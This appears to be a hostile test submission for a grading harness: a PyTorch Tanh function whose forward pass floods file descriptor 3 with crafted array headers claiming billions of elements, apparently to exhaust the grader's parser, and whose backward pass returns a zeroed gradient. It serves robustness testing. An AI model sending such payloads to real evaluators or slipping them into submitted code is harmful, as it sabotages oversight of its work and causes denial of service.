# hostile: sends arrays that announce four billion elements, and one of 60 million
# verdict: not-passed
# evidence: none
import os
import struct

import torch


class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        for body in (b"\xdd\xff\xff\xff\xff" * 1000, b"\xdd\x03\xf0\0\0" + b"\xc0" * 66060288):
            left = memoryview(struct.pack("<II", len(body), 2) + body)
            while left:
                left = left[os.write(3, left[:65536]) :]
        a = torch.tanh(x)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, ga):
        (a,) = ctx.saved_tensors
        return ga * 0
